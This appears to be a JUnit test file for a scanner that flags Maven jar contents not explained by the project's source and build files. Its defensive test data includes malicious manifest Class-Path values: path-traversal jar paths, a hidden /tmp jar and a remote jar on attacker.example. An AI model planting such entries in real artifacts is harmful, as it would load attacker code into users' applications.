        assertEquals(templates ? MavenGeneratedFiles.MANIFEST : MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), classPath);
        assertEquals(!templates, m.highRisk(), classPath);
    }

    private static final String LOADER = "package org.acme;\n\npublic class Loader {\n"
            + "    static Class<?> load(ClassLoader l, String n) throws Exception { return l.loadClass(n); }\n}\n";
    private static final String LOADER_FALLBACK = LOADER.replace("return l.loadClass(n); }", "try { return l.loadClass(n); }"
            + " catch (ClassNotFoundException e) { return Class.forName(n); } }");

    /** commons-logging 1.0: a source that loads classes by name through a class loader also reaches them with Class.forName. */
    @Test
    void classLoadingByNameIsOneFamily() throws Exception {
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Loader.java", LOADER_FALLBACK), "--release", "11");
        FileDivergence f = row(artifact(scanJar(greeterTree("org/acme/Loader.java", LOADER), "3.0.0", classes), ".jar"),
                "org/acme/Loader.class");
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
        assertFalse(f.highRisk());
    }

    /** ... but reflective invocation the source does not name stays HIGH_RISK beside it. */
    @Test
    void classLoadingByNameDoesNotNameInvocation() throws Exception {
        String invoking = LOADER_FALLBACK.replace("return Class.forName(n); }",
                "Class.forName(n).getMethod(\"run\").invoke(null); return null; }");
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Loader.java", invoking), "--release", "11");
        FileDivergence g = row(artifact(scanJar(greeterTree("org/acme/Loader.java", LOADER), "3.0.0", classes), ".jar"),
                "org/acme/Loader.class");
        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, g.ruleId());
        assertTrue(g.highRisk());
    }

    /** A POM whose jar plugin writes the class path (addClasspath, prefix lib/) for commons-io; junit is a test one. */
    private static final String CLASS_PATH_POM = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId>"
            + "<version>3.0.0</version><dependencies><dependency><groupId>commons-io</groupId><artifactId>commons-io</artifactId>"
            + "<version>2.11.0</version></dependency><dependency><groupId>junit</groupId><artifactId>junit</artifactId>"
            + "<version>4.13</version><scope>test</scope></dependency></dependencies>"
            + "<build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive>"
            + "<manifest><mainClass>org.acme.Widget</mainClass><addClasspath>true</addClasspath>"
            + "<classpathPrefix>lib</classpathPrefix></manifest></archive></configuration></plugin></plugins></build></project>\n";

    /** Red team round 4 (case13): addClasspath explained any Class-Path value. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "lib/commons-io-2.11.0.jar|GENERATED",
            "lib/commons-io-2.11.0.jar lib/shim-1.0.jar|UNDECLARED",
            "lib/junit-4.13.jar|UNDECLARED",
            "../../../../../org/attacker/shim/1.0/shim-1.0.jar /tmp/.cache/x.jar|EXECUTION",
            "lib/commons-io-2.11.0.jar lib/../../x/commons-io-2.11.0.jar|EXECUTION",
            "https://attacker.example/commons-io-2.11.0.jar|EXECUTION",
            "commons-io-2.11.0.jar|EXECUTION"})
    void aClassPathIsTheJarPluginsOnlyWhenItListsTheDependenciesUnderItsPrefix(String classPath, String expected)
            throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", CLASS_PATH_POM);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\nClass-Path: "
                + classPath + "\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        switch (expected) {
            case "GENERATED" -> {
                assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), classPath);
                assertEquals(Verdict.EXPLAINED, a.verdict());
            }
            case "UNDECLARED" -> {
                assertEquals(MavenGeneratedFiles.MANIFEST_CLASS_PATH_UNDECLARED, m.ruleId(), classPath);
                assertFalse(m.highRisk());
                assertEquals(Verdict.DIVERGENT, a.verdict());
            }
            default -> {
                assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), classPath);
                assertTrue(m.highRisk());
                assertEquals(Verdict.HIGH_RISK, a.verdict());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"maven-bundle-plugin", "bnd.bnd"})
    void aBundleActivatorTheBundlePluginsInstructionsNameIsGenerated(String how) throws Exception {
        SortedMap<String, byte[]> tree = how.equals("bnd.bnd")
                ? dev.divergence.fixtures.Trees.with(agentTree(), "bnd.bnd", "Bundle-SymbolicName: org.acme\n"
                        + "Bundle-Activator: org.acme.Widget\n")
                : dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", new String(agentTree().get("pom.xml"),
                        StandardCharsets.UTF_8).replace("</plugins>", "<plugin><groupId>org.apache.felix</groupId>"
                        + "<artifactId>maven-bundle-plugin</artifactId><configuration><instructions>"
                        + "<Bundle-Activator>org.acme.Widget</Bundle-Activator></instructions></configuration></plugin></plugins>"));
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + "Bundle-Activator: org.acme.Widget\n"));
        jar.put("org/acme/Widget.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        assertEquals(FileStatus.GENERATED, m.status(), how);
        assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), how);
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    /** A module inheriting its bundle plugin's instructions from a parent only the registry holds (commons-parent). */
    private static final String BUNDLE_PARENT = "<project><modelVersion>4.0.0</modelVersion><groupId>org.acme</groupId>"
            + "<artifactId>acme-parent</artifactId><version>7</version><packaging>pom</packaging>\n"
            + "<properties><acme.osgi.import>*</acme.osgi.import><acme.osgi.dynamicImport /></properties>\n"
            + "<build><plugins><plugin><groupId>org.apache.felix</groupId><artifactId>maven-bundle-plugin</artifactId>"
            + "<configuration><instructions><Import-Package>${acme.osgi.import}</Import-Package>\n"
            + "<DynamicImport-Package>${acme.osgi.dynamicImport}</DynamicImport-Package></instructions></configuration>"
            + "</plugin></plugins></build></project>\n";

    private static String bundleModule(String properties, String plugins) {
        return "<project><modelVersion>4.0.0</modelVersion><parent><groupId>org.acme</groupId>"
                + "<artifactId>acme-parent</artifactId><version>7</version></parent>\n<artifactId>acme-core</artifactId>"
                + "<version>3.0.0</version>\n<properties>" + properties + "</properties>\n<build><plugins>" + plugins
                + "</plugins></build></project>\n";
    }

    /**
     * commons-fileupload 1.2.2–1.6.0 (real history): the module sets {@code commons.osgi.dynamicImport} and the parent on
     * Maven Central turns it into {@code <DynamicImport-Package>}; bnd writes exactly that value. Any other value, a
     * '*' nobody declared, a property only the jar defines, a nearer POM's instruction or a parent the registry lacks
     * explains nothing.
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "property from the parent's instructions|javax.portlet|true",
            "two lines, their breaks dropped|javax.portlet,javax.servlet|true",
            "bnd-maven-plugin's <bnd> block|javax.portlet|true",
            "the module's bnd.bnd over the parent's <bnd>|javax.portlet|true",
            "the module's bnd.bnd over the parent's <bnd>|org.other|false",
            "property from the parent's instructions|'javax.portlet,*'|false",
            "property from the parent's instructions|*|false",
            "property defined only in the jar|javax.portlet|false",
            "a nearer POM's own instruction|javax.portlet|false",
            "parent absent from the registry|javax.portlet|false"})
    void aDynamicImportThePomChainsBundleInstructionsDeclareIsGenerated(String how, String value, boolean explained)
            throws Exception {
        String parent = switch (how) {
            case "two lines, their breaks dropped" -> BUNDLE_PARENT.replace("${acme.osgi.dynamicImport}",
                    "\n  ${acme.osgi.dynamicImport},\n  javax.servlet\n");
            case "bnd-maven-plugin's <bnd> block", "the module's bnd.bnd over the parent's <bnd>" -> BUNDLE_PARENT.replace("<artifactId>maven-bundle-plugin</artifactId>"
                    + "<configuration><instructions>", "<artifactId>bnd-maven-plugin</artifactId><configuration><bnd><![CDATA[\n"
                    + "-noimportjava: true\nDynamicImport-Package: " + (how.contains("bnd.bnd") ? "org.other"
                    : "${acme.osgi.dynamicImport}") + "\n]]></bnd><x>")
                    .replace("</instructions>", "</x>").replace("groupId>org.apache.felix<", "groupId>biz.aQute.bnd<");
            case "property defined only in the jar" -> BUNDLE_PARENT.replace("<acme.osgi.dynamicImport />", "");
            default -> BUNDLE_PARENT;
        };
        String properties = how.equals("property defined only in the jar") ? ""
                : "<acme.osgi.import>!javax.portlet,*</acme.osgi.import><acme.osgi.dynamicImport>javax.portlet"
                + "</acme.osgi.dynamicImport>";
        String plugins = how.equals("a nearer POM's own instruction") ? "<plugin><groupId>org.apache.felix</groupId>"
                + "<artifactId>maven-bundle-plugin</artifactId><configuration><instructions><DynamicImport-Package>"
                + "org.acme.spi</DynamicImport-Package></instructions></configuration></plugin>" : "";
        String pom = bundleModule(properties, plugins);
        SortedMap<String, byte[]> tree = files("pom.xml", pom,
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        if (how.contains("bnd.bnd")) { // bnd-maven-plugin reads the module's bnd file, not the POM's <bnd>, when there is one
            tree = dev.divergence.fixtures.Trees.with(tree, "bnd.bnd", "Bundle-SymbolicName: org.acme.core\n"
                    + "DynamicImport-Package: ${acme.osgi.dynamicImport}\n");
        }
        Map<String, byte[]> jar = new LinkedHashMap<>();
        // the jar may carry the property itself (as a header, in its embedded POM): only the source's chain counts
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nBundle-SymbolicName: org.acme.core\n"
                + "Acme-Osgi-DynamicImport: " + value + "\nDynamicImport-Package: " + value + "\n"));
        jar.put("META-INF/maven/org.acme/acme-core/pom.xml", utf8(how.equals("property defined only in the jar")
                ? bundleModule("<acme.osgi.dynamicImport>" + value + "</acme.osgi.dynamicImport>", "") : pom));
        jar.put("org/acme/Widget.class", CLASS);
        Path world = java.nio.file.Files.createTempDirectory(dir, "bundle");
        if (!how.equals("parent absent from the registry")) {
            Path parentPom = world.resolve("m2/org/acme/acme-parent/7/acme-parent-7.pom");
            java.nio.file.Files.createDirectories(parentPom.getParent());
            java.nio.file.Files.writeString(parentPom, parent);
        }
        ArtifactReport a = artifact(scanPublished(world, tree, "3.0.0", Map.of(".pom", utf8(pom), ".jar",
                LocalMaven.jar(jar))), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        if (explained) {
            assertEquals(FileStatus.GENERATED, m.status(), how);
            assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), how);
            assertEquals(Verdict.EXPLAINED, a.verdict(), how + ": " + a.files());
        } else {
            assertEquals(FileStatus.PHANTOM, m.status(), how);
            assertEquals(MavenGeneratedFiles.MANIFEST_EXECUTION, m.ruleId(), how);
            assertEquals("manifest entries no build file declares: [DynamicImport-Package: " + value + "]",
                    m.detail().orElseThrow(), how);
            assertEquals(Verdict.HIGH_RISK, a.verdict(), how);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "per-entry section", "manifestEntries", "gradle", "module-info only"})
    void multiReleaseOnlyWhereTheBuildAsksForIt(String build) throws Exception {
        SortedMap<String, byte[]> tree = switch (build) {
            case "manifestEntries" -> dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", new String(
                    agentTree().get("pom.xml"), StandardCharsets.UTF_8).replace("</manifest>",
                    "</manifest><manifestEntries><Multi-Release>true</Multi-Release></manifestEntries>"));
            case "gradle" -> dev.divergence.fixtures.Trees.with(agentTree(), "build.gradle",
                    "jar {\n  manifest {\n    attributes('Multi-Release': true)\n  }\n}\n");
            default -> agentTree();
        };
        Map<String, byte[]> jar = new LinkedHashMap<>();
        // JarFile finds the attribute by searching the manifest's bytes, so a per-entry section turns it on too
        jar.put("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\nMain-Class: org.acme.Widget\n"
                + (build.equals("per-entry section") ? "\nName: org/acme/Widget.class\nmulti-release: TRUE\n" : "Multi-Release: true\n")));
        jar.put("org/acme/Widget.class", CLASS);
        // commons-parent's bnd writes the attribute with nothing versioned but module-info: it replaces no class
        if (build.equals("module-info only")) {
            jar.put("META-INF/versions/9/module-info.class", LocalMaven.javac(Map.of("module-info.java",
                    "module org.acme {\n    exports org.acme;\n}\n", "org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n"),
                    "--release", "11").get("module-info.class"));
        } else {
            jar.put("META-INF/versions/11/org/acme/Widget.class", CLASS);
        }
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence m = row(a, "META-INF/MANIFEST.MF");
        if (build.equals("none") || build.equals("per-entry section")) {
            assertEquals(FileStatus.PHANTOM, m.status());
            assertEquals(MavenGeneratedFiles.MANIFEST_MULTI_RELEASE, m.ruleId());
            assertFalse(m.highRisk(), "each versioned class is judged by itself");
            assertEquals(Verdict.DIVERGENT, a.verdict());
        } else {
            assertEquals(MavenGeneratedFiles.MANIFEST, m.ruleId(), build);
            assertEquals(Verdict.EXPLAINED, a.verdict(), build);
        }
    }

    private static final String RUNNER_EXEC = "package org.acme;\n\npublic class Runner {\n"
            + "    public static Process run(String cmd) throws Exception {\n        return new ProcessBuilder(cmd).start();\n    }\n}\n";
    private static final String RUNNER_PLAIN = "package org.acme;\n\npublic class Runner {\n"
            + "    public static Object run(String cmd) {\n        return cmd;\n    }\n}\n";

    @ParameterizedTest
    @ValueSource(strings = {"src/main/java11/", "src/main/java-11/"})
    void aVersionedClassIsJudgedAgainstItsVersionedSourceNotTheBaseOne(String root) throws Exception {
        // the base Runner starts processes, the release-11 one does not: a release-11 class that does is not its build
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Runner.java", RUNNER_EXEC), "--release", "11"));
        jar.put("META-INF/versions/11/org/acme/Runner.class", jar.get("org/acme/Runner.class"));
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Runner.java", RUNNER_EXEC,
                root + "org/acme/Runner.java", RUNNER_PLAIN), "3.0.0", jar), ".jar");
        FileDivergence base = row(a, "org/acme/Runner.class");
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, base.ruleId());
        FileDivergence versioned = row(a, "META-INF/versions/11/org/acme/Runner.class");
        assertEquals(root + "org/acme/Runner.java", versioned.sourcePath().orElseThrow());
        assertEquals(FileStatus.MODIFIED, versioned.status());
        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, versioned.ruleId());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aVersionedClassFromItsVersionedSourceIsCompiledFromSourceAndOneFromNowhereIsNot() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Runner.java", RUNNER_PLAIN), "--release", "11"));
        jar.put("META-INF/versions/11/org/acme/Runner.class", LocalMaven.javac(Map.of("org/acme/Runner.java", RUNNER_EXEC),
                "--release", "11").get("org/acme/Runner.class"));
        jar.put("META-INF/versions/11/org/acme/Greeter.class", LocalMaven.javac(Map.of("org/acme/Greeter.java", GREETER),
                "--release", "11").get("org/acme/Greeter.class"));
        jar.put("META-INF/versions/11/org/acme/Beacon.class", CLASS);
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Runner.java", RUNNER_PLAIN,
                "src/main/java11/org/acme/Runner.java", RUNNER_EXEC, "src/main/java11/org/acme/Greeter.java", GREETER),
                "3.0.0", jar), ".jar");
        // the base class is still the base source's (versioned classes do not vote for the source root)
        assertEquals("src/main/java/org/acme/Runner.java", row(a, "org/acme/Runner.class").sourcePath().orElseThrow());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, "org/acme/Runner.class").ruleId());
        for (String p : List.of("META-INF/versions/11/org/acme/Runner.class", "META-INF/versions/11/org/acme/Greeter.class")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.GENERATED, f.status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), p);
            assertTrue(f.sourcePath().orElseThrow().startsWith("src/main/java11/"), f.sourcePath().toString());
        }
        FileDivergence beacon = row(a, "META-INF/versions/11/org/acme/Beacon.class");
        assertEquals(FileStatus.PHANTOM, beacon.status());
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, beacon.ruleId());
        assertEquals(List.of("META-INF/versions/11/org/acme/Beacon.class"), a.divergentPaths());
    }

    @Test
    void aTestFixturesServiceOrAutoLoadRegistryShippedInTheJarIsNotExplainedByItsBytes() throws Exception {
        // tests register mocks with the same files; shipped, the consumer's framework would load what they name
        String factories = "org.springframework.context.ApplicationListener=org.acme.Greeter\n";
        String driver = "org.acme.Greeter\n";
        SortedMap<String, byte[]> tree = greeterTree("org/acme/Greeter.java", DRIVER_SOURCE,
                "src/test/resources/META-INF/spring.factories", factories,
                "src/test/resources/META-INF/services/java.sql.Driver", driver);
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Greeter.java", DRIVER_SOURCE), "--release", "11"));
        jar.put("META-INF/spring.factories", utf8(factories));
        jar.put("META-INF/services/java.sql.Driver", utf8(driver));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence s = row(a, "META-INF/services/java.sql.Driver");
        assertEquals(FileStatus.PHANTOM, s.status());
        assertEquals(MavenGeneratedFiles.NEW_SERVICE_PROVIDER, s.ruleId());
        FileDivergence f = row(a, "META-INF/spring.factories");
        assertEquals(FileStatus.PHANTOM, f.status());
        assertEquals(MavenGeneratedFiles.AUTO_LOAD_NEW_ENTRY, f.ruleId());
        assertEquals(List.of("META-INF/services/java.sql.Driver", "META-INF/spring.factories"),
                a.highRiskPaths().stream().sorted().toList());
    }

    @Test
    void aRegistryFromAnotherMainResourceFolderIsStillTheSources() throws Exception {
        // a resource root the layout does not vote for (src/main/resources-spring) is still the project's own
        String factories = "org.springframework.context.ApplicationListener=org.acme.Greeter\n";
        SortedMap<String, byte[]> tree = greeterTree("org/acme/Greeter.java", GREETER,
                "src/main/resources-spring/META-INF/spring.factories", factories);
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Greeter.java", GREETER), "--release", "11"));
        jar.put("META-INF/spring.factories", utf8(factories));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.MATCH_NORMALIZED, row(a, "META-INF/spring.factories").status());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }
}
